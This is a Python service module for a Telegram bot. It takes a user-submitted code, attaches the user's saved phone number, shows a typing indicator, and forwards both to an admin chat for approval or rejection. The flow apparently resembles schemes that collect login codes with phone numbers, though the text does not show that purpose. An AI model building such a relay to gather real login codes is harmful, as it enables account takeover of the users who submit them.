"""
app/services/submission_service.py

Purpose: Code intake workflow

- Enriches the submission with the user's saved phone number
- Stores the submission and starts the user's typing loop
- Notifies the reviewer with approve/reject buttons

All store and timer mutations happen before the first network call.
"""

import time
from typing import Any, Dict, Optional

from app.core.context import ServiceContext
from app.core.exceptions import ValidationError
from app.core.logging import get_logger, LogContext
from app.flow.states import Decision
from app.models.submission import Submission
from app.schemas.submission import LogCodeRequest
from app.services.telegram_service import TelegramResult
from utils.constants import (
    BUTTON_APPROVE,
    BUTTON_REJECT,
    ERROR_CODE_REQUIRED,
    NEW_SUBMISSION_MESSAGE,
    UNKNOWN_USER_ID,
)

logger = get_logger(__name__)


def new_submission_id(ctx: ServiceContext, user_id: Optional[str], now_ms: Optional[int] = None) -> str:
    """
    Builds "<userId|unknown>_<epoch ms>".

    If the id is taken, the millisecond part is advanced until it is free,
    so a pending submission is never overwritten.
    """
    prefix = user_id or UNKNOWN_USER_ID
    stamp = now_ms if now_ms is not None else int(time.time() * 1000)

    submission_id = f"{prefix}_{stamp}"
    while submission_id in ctx.submissions:
        stamp += 1
        submission_id = f"{prefix}_{stamp}"

    return submission_id


def decision_keyboard(submission_id: str) -> Dict[str, Any]:
    """Inline keyboard with one approve/reject row."""
    return {
        "inline_keyboard": [
            [
                {"text": BUTTON_APPROVE, "callback_data": f"{Decision.APPROVE.value}:{submission_id}"},
                {"text": BUTTON_REJECT, "callback_data": f"{Decision.REJECT.value}:{submission_id}"},
            ]
        ]
    }


def format_reviewer_notification(submission: Submission) -> str:
    return NEW_SUBMISSION_MESSAGE.format(
        first_name=submission.first_name,
        username=submission.username,
        user_id=submission.user_id or UNKNOWN_USER_ID,
        contact=submission.contact_display,
        code=submission.code,
    )


def evict_expired(ctx: ServiceContext) -> int:
    """
    Drops submissions older than SUBMISSION_TTL_SECONDS and stops typing
    loops of users left with nothing pending.
    """
    ttl = ctx.settings.SUBMISSION_TTL_SECONDS
    if not ttl:
        return 0

    evicted = ctx.submissions.purge_expired(ttl)
    for user_id in {s.user_id for s in evicted if s.user_id}:
        if not ctx.submissions.pending_for(user_id):
            ctx.presence.stop(user_id)

    return len(evicted)


def register_submission(ctx: ServiceContext, request: LogCodeRequest) -> Submission:
    """
    Creates the submission and starts the typing loop. No I/O.

    Raises:
        ValidationError: If the code is missing
    """
    if not request.code:
        raise ValidationError(ERROR_CODE_REQUIRED)

    tg_user = request.tg_user
    user_id = tg_user.user_id if tg_user else None

    evict_expired(ctx)

    submission = Submission(
        submission_id=new_submission_id(ctx, user_id),
        user_id=user_id,
        code=request.code,
        contact=ctx.phones.get(user_id),
        username=(tg_user.username or "") if tg_user else "",
        first_name=(tg_user.first_name or "") if tg_user else "",
    )
    ctx.submissions.create(submission)

    if user_id:
        ctx.presence.start(user_id)

    return submission


async def notify_reviewer(ctx: ServiceContext, submission: Submission) -> TelegramResult:
    """
    Sends the decision request to the reviewer chat. Not ephemeral.

    If it cannot be delivered no decision can arrive for it, so the user's
    typing loop is stopped unless another submission is still pending.
    """
    result = await ctx.telegram.send_message(
        ctx.settings.ADMIN_CHAT_ID,
        format_reviewer_notification(submission),
        reply_markup=decision_keyboard(submission.submission_id),
    )

    if not result.success:
        logger.error(f"Reviewer notification failed: {result.error}")
        others = [
            s for s in ctx.submissions.pending_for(submission.user_id)
            if s.submission_id != submission.submission_id
        ]
        if submission.user_id and not others:
            ctx.presence.stop(submission.user_id)

    return result


async def submit_code(ctx: ServiceContext, request: LogCodeRequest) -> Submission:
    """
    Full intake: register, then notify the reviewer.

    Returns:
        The stored submission
    """
    submission = register_submission(ctx, request)

    with LogContext(submission_id=submission.submission_id):
        logger.info(
            "Submission received",
            extra={"user_id": submission.user_id or UNKNOWN_USER_ID}
        )
        await notify_reviewer(ctx, submission)

    return submission
